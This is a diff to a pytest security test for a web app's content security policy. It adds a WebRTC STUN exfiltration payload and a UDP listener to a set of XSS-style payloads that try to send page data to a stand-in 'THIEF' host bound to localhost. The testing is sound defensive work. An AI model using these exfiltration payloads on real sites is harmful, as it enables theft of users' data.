@@ -161,15 +161,20 @@ ATTACKS = (
 )
 KEPT = {"parent": "kept", "top": "kept", "cookie": "kept", "storage": "kept", "fetch": "kept", "alert": "kept",
         "opened": "null"}
+#: Chromium has no word against it in a policy, and minds Connection-Allowlist from 152 on.
+RTC = ("p=new RTCPeerConnection({iceServers:[{urls:'stun:THIEF'}]});p.createDataChannel('x');"
+       "p.createOffer().then(o=>p.setLocalDescription(o))")
 #: How one tries to tell somebody elsewhere, at THIEF, what it sees.
 TELLING = {
     "picture": "<img src=http://THIEF/x><script>new Image().src='http://THIEF/'+1</script>",
     "refresh": "<meta http-equiv=refresh content='0;url=http://THIEF/'>",
     "location": "<script>location='http://THIEF/?'+document.body.textContent.length</script>",
-    "frame": "<iframe src=http://THIEF/></iframe><object data=http://THIEF/></object>",
+    "object": "<object data=http://THIEF/></object><embed src=http://THIEF/>",
     "base": "<base href=http://THIEF/><img src=x><link rel=stylesheet href=x><script src=x></script>",
     "form": "<form id=f action=http://THIEF/></form><script>f.submit()</script>",
     "beacon": "<script>navigator.sendBeacon('http://THIEF/');new WebSocket('ws://THIEF/')</script>",
+    "call": f"<script>{RTC}</script>",
+    "call from a frame": f'<iframe srcdoc="<script>{RTC}</script>"></iframe>',
     "hint": "<link rel=preconnect href=http://THIEF><link rel=prefetch href=http://THIEF/x>",
 }
 
@@ -189,19 +194,23 @@ def called(site):
 @pytest.fixture
 def thief():
     """Somebody elsewhere who listens."""
-    with socket.socket() as listening:
+    with socket.socket() as listening, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
         listening.bind(("127.0.0.9", 0))
         listening.listen()
-        yield listening
+        datagrams.bind(listening.getsockname())
+        yield listening, datagrams
 
 
 def heard(thief):
     """What came.  Chromium may open a connection before it looks at the policy, and says nothing on it."""
+    listening, datagrams = thief
     said = b""
-    while select.select([thief], [], [], 0)[0]:
-        with thief.accept()[0] as connection:
+    while select.select([listening], [], [], 0)[0]:
+        with listening.accept()[0] as connection:
             if select.select([connection], [], [], 0.3)[0]:
                 said += connection.recv(4096)
+    while select.select([datagrams], [], [], 0)[0]:
+        said += datagrams.recv(4096)
     return said
 
 
@@ -224,13 +233,16 @@ class TestAHostileClient:
 
     @pytest.mark.parametrize("way", sorted(TELLING))
     def test_its_name_tells_nobody_elsewhere(self, opened, called, thief, way):
-        host = "{}:{}".format(*thief.getsockname())
+        host = "{}:{}".format(*thief[0].getsockname())
         called(TELLING[way].replace("THIEF", host))
         page, witness = opened("/")
         expect(frame(page, "counter").locator("#count")).to_be_visible()
         expect(frame(page, "broken").get_by_role("alert")).to_be_visible()
         page.wait_for_load_state("networkidle")
-        if way not in {"hint", "base"}:  # The page's own base goes first.
+        if "call" in way:
+            page.wait_for_timeout(500)
+            expect(frame(page, "names").locator("iframe")).to_have_count(0)
+        elif way not in {"hint", "base"}:  # The page's own base goes first.
             assert any(host in one for one in (*witness.foreign, *witness.troubles)), "it was tried"
         assert heard(thief) == b""
 
